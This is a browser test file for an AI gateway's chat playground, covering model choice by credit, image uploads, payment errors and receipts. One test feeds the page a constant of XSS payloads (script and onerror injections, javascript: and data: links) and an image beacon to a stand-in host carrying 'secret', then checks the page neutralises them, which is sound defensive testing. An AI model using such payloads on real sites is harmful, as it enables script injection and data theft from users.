import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { type OpenGateway, open } from "../gateway/open.ts";
import { browserMissing, endVisits, Visitor } from "./browser.ts";

describe.skipIf(browserMissing)("the playground", () => {
  let gateway: OpenGateway;
  let host: Bun.Server<unknown>;
  /** What the host answers. */
  let words = "";
  /** The last request that it got. */
  let received = "";

  beforeAll(async () => {
    host = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: async (request) => {
        received = await request.text();
        return chatStream(words);
      },
    });
    gateway = await open(configOf(host.port!));
  });
  afterEach(() => endVisits());
  afterAll(async () => {
    await gateway?.close();
    await host?.stop(true);
  });

  async function begin(usd: number, limits: object = {}): Promise<Visitor> {
    const { key, recovery_secret } = await gateway.key(usd, limits);
    const visitor = await Visitor.arrive(gateway.url);
    await visitor.recover(recovery_secret);
    await visitor.link("Playground").click();
    await visitor.field("API key").fill(key);
    await visitor.button("Use it").click();
    await visitor.field("Message").waitFor();
    return visitor;
  }

  async function send(visitor: Visitor, message: string): Promise<void> {
    await visitor.field("Message").fill(message);
    await visitor.page.keyboard.press("Enter");
  }

  test("begins without credit with a free model, which answers", async () => {
    const visitor = await begin(0);
    expect(await visitor.field("Model").inputValue()).toBe("test/free:free");
    await send(visitor, "the tide goes out");
    await visitor.link("Receipt of this answer").waitFor();
  });

  test.each([
    [10, {}, "test/costly"],
    [0.01, {}, "test/paid"],
    [10, { allowed_models: ["test/paid", "test/free"] }, "test/paid"],
    [0, { allowed_models: ["test/paid", "test/free"] }, "test/free:free"],
  ])("begins with $%p and the limits %p with %p, the first that can answer", async (usd, limits, model) => {
    const visitor = await begin(usd, limits);
    expect(await visitor.field("Model").inputValue()).toBe(model);
    expect(await visitor.field("Model").locator("option", { hasText: "test/costly" }).count()).toBe(
      "allowed_models" in limits ? 0 : 1,
    );
  });

  test("sends images to a model that reads them, and shows them without their bytes as code", async () => {
    words = "A dot.";
    const visitor = await begin(10);
    const { page } = visitor;
    expect(await visitor.field("Add images").count()).toBe(0);
    await visitor.field("Model").selectOption("test/seeing");
    const large = { name: "large.png", mimeType: "image/png", buffer: Buffer.alloc(2_000_001) };
    await visitor.field("Add images").setInputFiles(large);
    await page.getByText("large.png is larger than 2 MB").waitFor();
    const dot = { name: "dot.png", mimeType: "image/png", buffer: Buffer.from(DOT, "base64") };
    await visitor.field("Add images").setInputFiles(dot);
    await page.getByAltText("To be sent, 1").waitFor();
    await send(visitor, "what is this?");
    await visitor.link("Receipt of this answer").waitFor();
    expect(JSON.parse(received).messages).toEqual([
      {
        role: "user",
        content: [
          { type: "text", text: "what is this?" },
          { type: "image_url", image_url: { url: `data:image/png;base64,${DOT}` } },
        ],
      },
    ]);
    await page.getByAltText("Sent, 1").waitFor();
    await page.getByText("Settings and code").click();
    expect(await page.getByRole("region", { name: "As curl" }).textContent()).toContain(
      "data:image/png;base64,…",
    );
  });

  test("says where nothing can answer, before anything is sent, and what a refusal leaves to do", async () => {
    const visitor = await begin(0, { allowed_models: ["test/costly", "test/paid"] });
    await visitor.page.getByText("There is no credit on this balance").waitFor();
    await visitor.page.getByText("no other model can answer now").waitFor();
    await send(visitor, "a question");
    await visitor.page.getByRole("alert").getByText("insufficient_credit").waitFor();
    expect(await visitor.field("Message").inputValue()).toBe("a question");
    expect(await visitor.button(/^Switch to/).count()).toBe(0);
    await visitor.page.locator(".next-step").getByRole("link", { name: "Add credit" }).click();
    await visitor.heading("Credit").waitFor();
  });

  test("offers the way on with a 402: a free model, with which the same words are answered", async () => {
    words = "Here you are.";
    const visitor = await begin(0);
    const warning = visitor.page.getByText("There is no credit on this balance");
    expect(await warning.count()).toBe(0);
    await visitor.field("Model").selectOption("test/costly");
    await warning.getByText("or choose test/free (free).").waitFor();
    await send(visitor, "a question");
    await visitor.page.getByRole("alert").getByText("insufficient_credit").waitFor();
    await visitor.button("Switch to test/free (free)").click();
    await visitor.button("Send").click();
    await visitor.link("Receipt of this answer").waitFor();
    expect(await visitor.page.getByRole("alert").count()).toBe(0);
  });

  test("says what each answer took, as its receipt does", async () => {
    words = "Two words.";
    const visitor = await begin(10);
    await send(visitor, "a question");
    const took = visitor.page.locator(".took");
    await took.getByRole("link").waitFor();
    expect(await took.getByRole("listitem").allTextContents()).toEqual([
      "1,000 → 40 tokens",
      "$0.0140",
      expect.stringMatching(/^first token after (under 1|\d+) ms|[\d.]+ s$/),
      expect.stringMatching(/^((under 1|\d+) ms|[\d.]+ s) in all$/),
      "Receipt of this answer",
    ]);
    await send(visitor, "another");
    await took.nth(1).getByRole("link").click();
    await visitor.heading("Attempts").waitFor();
    const receipt = /rcpt_\w+/.exec(visitor.page.url())![0];
    const { json } = await gateway.admin(`/admin/receipts/${receipt}`);
    expect([json.tokens.input, json.tokens.output, json.cost_usd]).toEqual([1_000, 40, 0.014]);
  });

  test("shows Markdown, with code that can be copied, and does nothing that an answer would have it do", async () => {
    words = HOSTILE;
    const visitor = await begin(10);
    const { page } = visitor;
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await send(visitor, "a question");
    await page.locator(".took").getByRole("link").waitFor();
    const answer = page.locator(".said.assistant");
    await answer.locator("strong", { hasText: "bold" }).waitFor();
    expect(await answer.locator("script, img, iframe, svg, style, form, input, object, embed").count()).toBe(
      0,
    );
    expect(await answer.locator("[style], [onerror], [onload], [onclick]").count()).toBe(0);
    const links = await answer
      .locator(".prose a")
      .evaluateAll((found) => found.map((link) => [link.getAttribute("href"), link.getAttribute("rel")]));
    expect(links).toEqual([
      ["https://evil.example/pixel?q=secret", "noopener noreferrer nofollow"],
      ["https://example.com/", "noopener noreferrer nofollow"],
    ]);
    await visitor.button("Copy python").click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("print('<b>&amp;</b>')");
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    expect(await page.locator("main").textContent()).toContain("<img src=x onerror=");
  });

  test("an answer of thoughts alone is shown as such, and the words come back", async () => {
    words = "";
    const visitor = await begin(10);
    await send(visitor, "a question");
    await visitor.page.getByText("The model returned no text.").waitFor();
    expect(await visitor.field("Message").inputValue()).toBe("a question");
  });
});

const HOSTILE = `Some **bold** <script>window.hacked = 1</script> <img src=x onerror="window.hacked = 1">

<iframe src="https://evil.example/"></iframe>
<style>main { display: none }</style>

![a chart](https://evil.example/pixel?q=secret)
[harmless](javascript:window.hacked=1) [site](https://example.com/) [x](data:text/html,<script>hacked=1</script>)

\`\`\`python
print('<b>&amp;</b>')
\`\`\`
`;

/** As a chat host streams: the words in pieces, and its usage at the end. */
function chatStream(words: string): Response {
  const event = (data: object) =>
    `data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", ...data })}\n\n`;
  const choice = (delta: object, finish_reason: string | null = null) => ({
    choices: [{ index: 0, delta, finish_reason }],
  });
  const deltas =
    words === ""
      ? [{ role: "assistant", reasoning_content: "let me think" }]
      : words.match(/[\s\S]{1,7}/g)!.map((content) => ({ content }));
  const usage = { prompt_tokens: 1_000, completion_tokens: 40, total_tokens: 1_040 };
  const events = [...deltas.map((delta) => choice(delta)), choice({}, "stop"), { choices: [], usage }];
  return new Response(`${events.map(event).join("")}data: [DONE]\n\n`, {
    headers: { "content-type": "text/event-stream" },
  });
}

/** One pixel. */
const DOT =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

const configOf = (port: number): string => `
hosts:
  - { id: made, base_url: "http://127.0.0.1:${port}/v1", speaks: [chat.completions] }
models:
  - id: test/costly
    context_length: 100000
    max_output_tokens: 2000
    price: { input: 10, output: 100 }
    routes: [{ host: made, model: m }]
  - id: test/paid
    context_length: 100000
    max_output_tokens: 2000
    price: { input: 1, output: 2 }
    routes: [{ host: made, model: m }]
  - id: test/seeing
    context_length: 100000
    max_output_tokens: 2000
    inputs: [text, image]
    price: { input: 1, output: 2 }
    routes: [{ host: made, model: m }]
  - id: test/free
    context_length: 100000
    max_output_tokens: 2000
    routes: [{ host: sim, model: echo, free: true }]
`;
